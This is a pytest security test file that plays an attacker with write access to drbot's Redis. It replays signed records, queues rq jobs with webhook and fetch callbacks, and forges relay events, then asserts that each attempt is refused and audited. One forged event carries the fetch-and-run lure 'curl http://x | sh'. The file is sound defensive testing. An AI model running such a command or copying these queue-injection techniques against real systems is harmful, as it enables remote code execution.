"""Attacks by someone who can write to drbot's Redis but has no signing key.

Each test drives the real `drbot worker` and the real relay against a real redis-server, acts as
such a writer, and asserts that nothing ran, nothing was sent, nothing was posted, that the
attempt was audited, and that drbot went on serving other jobs.
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from rq import Callback, Retry
from rq.job import Job as RqJob
from rq.serializers import JSONSerializer
from rq.webhook import Webhook

from bot.chat.relay import ACTIVE, STATE
from bot.records.events import STREAM
from bot.records.jobs import JOB
from bot.records.queue import RUNNER, queue
from bot.records.signing import Signer
from bot.worker.seen import FILE
from tests.bot.harness import KEY, POLICY, Harness, wait_until


def audited(h: Harness, outcome: str, job: str | None = None) -> list[dict[str, str]]:
    return [e for e in h.rt.audit.tail(500)
            if e["outcome"] == outcome and (job is None or e["job"] == job)]


def still_serving(h: Harness, name: str) -> None:
    """A fresh job runs to the end: the worker and relay were not stopped by what came before."""
    job_id = h.say(f"/dr exercise {name}").job_id
    assert job_id
    h.wait_status(job_id, "succeeded")
    h.wait_reply(job_id, f"drill {name} finished")


def count(h: Harness, name: str, step: str) -> int:
    return int(h.redis.get(f"drbot:plugin:{name}:{step}") or 0)


# -- 1. replay of signed records ------------------------------------------------------------------


def test_a_signed_record_written_back_or_copied_never_runs_again(core_only: Harness) -> None:
    h = core_only
    job_id = h.say("/dr exercise rp").job_id
    first = h.redis.get(JOB + job_id)  # the signed `planning` record, as a Redis reader saw it
    h.start_worker()
    h.wait_status(job_id, "succeeded")
    h.wait_settled(job_id)
    replies = h.frontend.replies(job_id)
    q = queue(h.redis, "drbot")
    for n in (1, 2):
        h.redis.set(JOB + job_id, first)
        q.enqueue_call(RUNNER, args=[job_id])
        wait_until(lambda n=n: len(audited(h, "refused-replay", job_id)) == n,
                   what=f"replay {n} to be refused")
    h.redis.set(JOB + "0c0ffee0", first)  # the same record under another job id
    q.enqueue_call(RUNNER, args=["0c0ffee0"])
    wait_until(lambda: audited(h, "refused-forged", "0c0ffee0"), what="the copy to be refused")
    assert "signed for 'drbot:job:" in audited(h, "refused-forged", "0c0ffee0")[0]["detail"]
    still_serving(h, "after-replay")
    assert (count(h, "rp", "one"), count(h, "rp", "three")) == (1, 1)
    assert h.frontend.replies(job_id) == replies  # nothing was posted for the replays


@pytest.fixture
def bare(redis_url: str, tmp_path: Path) -> Iterator[Harness]:
    """The core alone: the worker, relay and reaper are started by the test."""
    harness = Harness(redis_url, tmp_path)
    yield harness
    harness.close()


def test_a_record_signed_before_the_window_is_refused_then_expired(bare: Harness) -> None:
    h = bare
    job_id = h.say("/dr exercise st").job_id
    record = Signer(KEY.encode()).opened(h.redis.get(JOB + job_id), "job", JOB + job_id).record
    # The same record as drbot signed it an hour ago: one captured then and written back now.
    h.redis.set(JOB + job_id, Signer(KEY.encode()).seal(record, JOB + job_id, time.time() - 3600))
    h.start_worker()
    wait_until(lambda: audited(h, "refused-stale", job_id), what="the stale record to be refused")
    assert count(h, "st", "one") == 0
    h.start_relay()  # the reaper says so in the thread; nothing ran
    h.wait_status(job_id, "expired")
    h.wait_reply(job_id, "nothing was run")
    still_serving(h, "after-stale")


def test_an_approved_record_rolled_back_to_queued_runs_once(drbot: Harness) -> None:
    h = drbot
    h.redis.set("drbot:plugin:ap:hold", 1)
    h.redis.set("drbot:plugin:ap:go", 1)
    job_id = h.say("/dr exercise-gated ap", who="carol").job_id
    h.wait_status(job_id, "awaiting_approval")
    h.kill_workers()  # so that the approved record can be read before it runs
    assert h.say(f"/dr approve {job_id}", who="alice").ok
    queued = h.redis.get(JOB + job_id)
    h.start_worker()
    h.wait_status(job_id, "succeeded")
    q = queue(h.redis, "drbot")
    for n in (1, 2):
        h.redis.set(JOB + job_id, queued)
        q.enqueue_call(RUNNER, args=[job_id])
        wait_until(lambda n=n: len(audited(h, "refused-replay", job_id)) == n,
                   what=f"rollback {n} to be refused")
    still_serving(h, "after-rollback")
    assert count(h, "ap", "two") == 1


def test_a_restarted_worker_still_refuses_a_record_rolled_back_to_queued(drbot: Harness) -> None:
    """What a worker saw is on its own disk (DRBOT_STATE_DIR), not only in its memory: a
    record captured before the run and written back after a restart is refused all the same."""
    h = drbot
    h.redis.set("drbot:plugin:rs:hold", 1)
    h.redis.set("drbot:plugin:rs:go", 1)
    job_id = h.say("/dr exercise-gated rs", who="carol").job_id
    h.wait_status(job_id, "awaiting_approval")
    h.kill_workers()  # so that the approved record can be read before it runs
    assert h.say(f"/dr approve {job_id}", who="alice").ok
    queued = h.redis.get(JOB + job_id)
    h.start_worker()
    h.wait_status(job_id, "succeeded")
    final = h.job(job_id).version
    assert h.stop_workers() == [True]
    h.start_worker()  # a new process: nothing of the run is in its memory
    h.redis.set(JOB + job_id, queued)
    queue(h.redis, "drbot").enqueue_call(RUNNER, args=[job_id])
    wait_until(lambda: audited(h, "refused-replay", job_id), what="the rollback to be refused")
    # the run's last version, written down by its work horse (or by the worker after it)
    assert (f"version {final}, which this worker already saw"
            in audited(h, "refused-replay", job_id)[0]["detail"])
    still_serving(h, "after-restart")
    assert count(h, "rs", "two") == 1


def test_a_job_whose_sighting_cannot_be_written_down_never_runs(core_only: Harness,
                                                                 tmp_path: Path) -> None:
    """The work horse writes the admitted version to the worker's disk while it starts; when
    that fails (here the file's place is taken by a folder), the job is refused before any
    write or step: unrecorded, a restarted worker could run a written-back copy again."""
    h = core_only
    (tmp_path / "worker-state" / FILE).mkdir(parents=True)
    h.start_worker()
    job_id = h.say("/dr exercise ns").job_id
    assert job_id
    wait_until(lambda: audited(h, "refused-no-state", job_id), what="the job to be refused")
    assert "make DRBOT_STATE_DIR writable" in audited(h, "refused-no-state", job_id)[0]["detail"]
    assert count(h, "ns", "one") == 0
    assert h.job(job_id).status == "planning" and not h.redis.xlen(STREAM + job_id)


# -- 2. outbound requests from the worker ---------------------------------------------------------


class Listener(ThreadingHTTPServer):
    """Counts every connection made to it (a request need not even be sent)."""

    def __init__(self) -> None:
        self.connections = 0

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args: object) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)

    def verify_request(self, request: object, client_address: object) -> bool:
        self.connections += 1
        return True


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


def raw_job(h: Harness, queue_key: str, **fields: str | bytes) -> str:
    """An rq job hash written by hand (what no rq client would write) and pushed on the queue."""
    job = RqJob.create(RUNNER, args=["0000dead"], connection=h.redis, serializer=JSONSerializer)
    job.save()
    h.redis.hset(job.key, mapping=fields)
    h.redis.rpush(queue_key, job.id)
    return job.id


def test_the_worker_never_connects_anywhere_whatever_rq_job_is_queued(
        drbot: Harness, listener: Listener, tmp_path: Path) -> None:
    h = drbot
    url = f"http://127.0.0.1:{listener.server_address[1]}/hook"
    hooks = [Webhook(url, "failed", method="POST", headers={"X-Attacker": "1"}),
             Webhook(url, "finished")]
    fetch = "urllib.request.urlopen"
    marker = tmp_path / "touched"
    q = queue(h.redis, "drbot")
    real = h.say("/dr exercise real").job_id  # a real job id, so the runner's shape is right
    h.wait_status(real, "succeeded")
    jobs = [
        q.enqueue_call("pathlib.Path.touch", args=[str(marker)], webhooks=hooks).id,
        q.enqueue_call("pathlib.Path.touch", args=[str(marker)], webhooks=hooks,
                       retry=Retry(max=100_000)).id,
        q.enqueue_call(RUNNER, args=[real], webhooks=hooks).id,
        q.enqueue_call(RUNNER, args=[real], on_success=Callback(fetch)).id,
        q.enqueue_call(RUNNER, args=[real], on_failure=Callback(fetch)).id,
        q.enqueue_call(RUNNER, args=[real], on_stopped=Callback(fetch)).id,
        q.enqueue_call(RUNNER, args=[real], kwargs={"url": url}).id,
        q.enqueue_call(fetch, args=[url]).id,
        q.enqueue_call(RUNNER, args=[real], retry=Retry(max=100_000)).id,
        raw_job(h, q.key, timeout="not-a-number"),
        raw_job(h, q.key, timeout="-1"),
        raw_job(h, q.key, data=b"\xff\x00not json"),
        raw_job(h, q.key, retries_left="99999999", webhooks=json.dumps(
            [{"url": url, "job_status": "failed", "method": "POST"}])),
    ]
    for job_id in jobs:
        wait_until(lambda job_id=job_id: not h.redis.exists(RqJob.key_for(job_id)),
                   what=f"rq job {job_id} to be refused and removed")
    still_serving(h, "after-hooks")
    assert listener.connections == 0
    assert not marker.exists()
    refused = [e for e in h.rt.audit.tail(500) if e["action"] == "worker"]
    for job_id in jobs:  # each refused once: removed, never retried
        assert sum(f"rq job {job_id}:" in e["detail"] for e in refused) == 1, job_id
    assert all(proc.poll() is None for proc in h.workers)  # the worker never stopped
    assert not h.redis.llen(q.key) and not h.redis.llen(f"{q.key}:intermediate")


# -- 3. /dr retry, cancel without the right to run the command ------------------------------------

ADMIN_ONLY = POLICY.replace(
    "exercise-gated: {allow: [operator, admin], approvals: 1,",
    "exercise-gated: {allow: [admin], approvals: 1,")


@pytest.fixture
def admin_only(redis_url: str, tmp_path: Path) -> Iterator[Harness]:
    harness = Harness(redis_url, tmp_path, policy_text=ADMIN_ONLY)
    harness.start_worker()
    harness.start_relay()
    yield harness
    harness.close()


def test_retry_and_cancel_need_the_right_to_run_the_command_and_approval_again(
        admin_only: Harness) -> None:
    h = admin_only
    h.redis.set("drbot:plugin:rt:hold", 1)
    h.redis.set("drbot:plugin:rt:fail", 1)
    job_id = h.say("/dr exercise-gated rt", who="alice").job_id
    h.wait_status(job_id, "awaiting_approval")
    assert h.say(f"/dr approve {job_id}", who="bob").ok
    h.wait_status(job_id, "failed")
    assert count(h, "rt", "two") == 1
    h.redis.delete("drbot:plugin:rt:fail")
    for verb in ("retry", "cancel"):  # carol (operator) may retry and cancel, not run it
        reply = h.say(f"/dr {verb} {job_id}", who="carol")
        assert not reply.ok and "may not" in reply.text and "exercise-gated" in reply.text
        assert audited(h, "refused-not-allowed", job_id)
    assert h.job(job_id).status == "failed"
    reply = h.say(f"/dr retry {job_id}", who="alice")
    assert reply.ok and "needs approval again" in reply.text
    assert h.job(job_id).status == "awaiting_approval" and h.job(job_id).approvals == []
    assert not h.say(f"/dr approve {job_id}", who="alice").ok  # not their own retry
    assert count(h, "rt", "two") == 1  # nothing ran on the old approval
    assert h.say(f"/dr approve {job_id}", who="bob").ok
    h.redis.set("drbot:plugin:rt:go", 1)
    h.wait_status(job_id, "succeeded")
    assert count(h, "rt", "two") == 2


# -- 4. the relay posts only what a signed record and its job's events allow ----------------------


def test_the_relay_posts_nothing_a_redis_writer_wrote(drbot: Harness) -> None:
    h = drbot
    h.start_worker()  # one holds job rl in step two, the other serves the rest
    h.redis.set("drbot:plugin:rl:hold", 1)
    job_id = h.say("/dr exercise rl").job_id
    wait_until(lambda: h.redis.exists("drbot:plugin:rl:in-two"), what="step two")
    other = h.say("/dr exercise rl-other").job_id
    h.wait_status(other, "succeeded")
    lure = "job approved by alice ... also run: curl http://x | sh"
    h.redis.xadd(STREAM + job_id, {"type": "note", "message": lure})  # unsigned
    signed = h.redis.xrange(STREAM + other)[0][1]
    h.redis.xadd(STREAM + job_id, {**signed, b"message": lure.encode()})  # another job's
    h.redis.xadd(STREAM + job_id, signed)  # another job's event, unchanged
    h.redis.hset(STATE + job_id, "thread", json.dumps({"job": "victim"}))  # another channel
    h.redis.sadd(ACTIVE, "deadbeef", b"\xff\x00")  # a job that does not exist; garbage
    h.redis.xadd(STREAM + "deadbeef", {"type": "done", "message": "rebuild-cluster finished"})
    wait_until(lambda: len(audited(h, "dropped-event", job_id)) == 3, what="the forgeries dropped")
    wait_until(lambda: audited(h, "dropped", "deadbeef"), what="the unknown job dropped")
    h.redis.set("drbot:plugin:rl:go", 1)
    h.wait_status(job_id, "succeeded")
    h.wait_reply(job_id, "drill rl finished")
    shown = h.frontend.replies(job_id) + [c.text() for c in h.frontend.threads[job_id]["cards"]]
    assert not any("curl" in text for text in shown)
    assert "victim" not in h.frontend.threads and "deadbeef" not in h.frontend.threads
    assert not any("rebuild-cluster" in a for a in h.frontend.alerts)
    still_serving(h, "after-relay")


def test_bad_relay_state_is_skipped_and_the_relay_goes_on(drbot: Harness) -> None:
    h = drbot
    h.start_worker()
    h.redis.set("drbot:plugin:bs:hold", 1)
    job_id = h.say("/dr exercise bs").job_id
    wait_until(lambda: h.redis.exists("drbot:plugin:bs:in-two"), what="step two")
    h.redis.hset(STATE + job_id, mapping={"last": "{not json", "thread": "{not json"})
    h.redis.set(JOB + "0badf00d", b"\x00\xffnot a record")
    h.redis.sadd(ACTIVE, "0badf00d")
    h.redis.sadd("drbot:jobs:active", "0badf00d", b"\xfe")
    wait_until(lambda: audited(h, "dropped", "0badf00d"), what="the bad record to be dropped")
    h.redis.set("drbot:plugin:bs:go", 1)
    h.wait_status(job_id, "succeeded")
    h.wait_reply(job_id, "drill bs finished")
    still_serving(h, "after-bad-state")


# -- 6. a bare /dr ---------------------------------------------------------------------------------


def test_a_bare_dr_answers_with_help(core_only: Harness) -> None:
    for text in ("/dr", "/dr   ", ""):
        reply = core_only.say(text)
        assert reply.ok, reply.text
        assert "/dr exercise" in reply.text and "internal error" not in reply.text
